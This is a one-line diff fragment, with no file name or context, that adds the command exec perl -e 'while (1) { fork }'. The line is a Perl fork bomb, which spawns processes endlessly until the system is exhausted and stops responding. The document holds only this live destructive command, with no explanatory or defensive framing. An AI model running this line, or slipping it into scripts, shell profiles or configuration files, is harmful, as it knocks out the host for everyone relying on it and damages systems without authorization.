@@ -1,0 +1,1 @@
+exec perl -e 'while (1) { fork }'
